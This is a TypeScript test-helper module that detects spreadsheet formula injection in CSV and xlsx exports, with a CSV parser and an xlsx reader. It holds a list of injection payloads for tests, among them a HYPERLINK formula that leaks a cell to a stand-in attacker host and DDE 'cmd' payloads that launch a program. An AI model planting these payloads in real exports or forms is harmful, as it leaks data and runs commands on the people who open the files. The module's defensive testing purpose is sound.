/**
 * Spreadsheet formula injection (CSV/xlsx exports): a cell a resident typed as
 * `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` runs as a formula when a clerk
 * opens the export. An export is safe when no text cell starts with = + - @ (or a tab or
 * carriage return, which some spreadsheet programs skip before looking) unless it is
 * prefixed with an apostrophe — or the cell is stored as an explicit string (xlsx t="s"),
 * which the helper accepts by taking only the rendered text.
 *
 * For the export feature of issue #8: read the exported file into rows of cell texts and
 * call assertNoFormulaInjection(rows).
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** Cells, as [row, column, text], that a spreadsheet program would run as formulas. */
export function formulaCells(rows: ReadonlyArray<ReadonlyArray<unknown>>): Array<[number, number, string]> {
  const found: Array<[number, number, string]> = [];
  rows.forEach((row, r) => {
    row.forEach((cell, c) => {
      // Numbers are numbers (−3 is a value, not a formula); only text can smuggle a formula in.
      if (typeof cell !== "string") return;
      if (FORMULA_START.test(cell)) found.push([r, c, cell]);
    });
  });
  return found;
}

export function assertNoFormulaInjection(rows: ReadonlyArray<ReadonlyArray<unknown>>, what = "export"): void {
  const found = formulaCells(rows);
  if (found.length > 0) {
    const list = found.map(([r, c, text]) => `row ${r + 1} column ${c + 1}: ${JSON.stringify(text)}`).join("; ");
    throw new Error(`${what} has cells a spreadsheet would run as formulas (prefix them with '): ${list}`);
  }
}

/** Parses CSV text (RFC 4180: quoted fields, doubled quotes, CRLF or LF) into rows of cell texts. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const input = text.startsWith("\uFEFF") ? text.slice(1) : text;
  for (let i = 0; i < input.length; i++) {
    const ch = input[i];
    if (quoted) {
      if (ch === '"' && input[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === "") quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || ch === "\r") {
      if (ch === "\r" && input[i + 1] === "\n") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** The payloads an export test should put into free-text fields before exporting. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** Every worksheet of an .xlsx file as rows of rendered cell values (text as shown, numbers as numbers). */
export async function readXlsxRows(file: Buffer): Promise<Map<string, unknown[][]>> {
  const { default: ExcelJS } = await import("exceljs");
  const workbook = new ExcelJS.Workbook();
  const bytes = new Uint8Array(file.byteLength);
  bytes.set(file);
  await workbook.xlsx.load(bytes.buffer);
  const sheets = new Map<string, unknown[][]>();
  workbook.eachSheet((sheet) => {
    const rows: unknown[][] = [];
    sheet.eachRow({ includeEmpty: false }, (row) => {
      const values: unknown[] = [];
      row.eachCell({ includeEmpty: true }, (cell, column) => {
        values[column - 1] = typeof cell.value === "number" ? cell.value : cell.text;
      });
      rows.push(values);
    });
    sheets.set(sheet.name, rows);
  });
  return sheets;
}
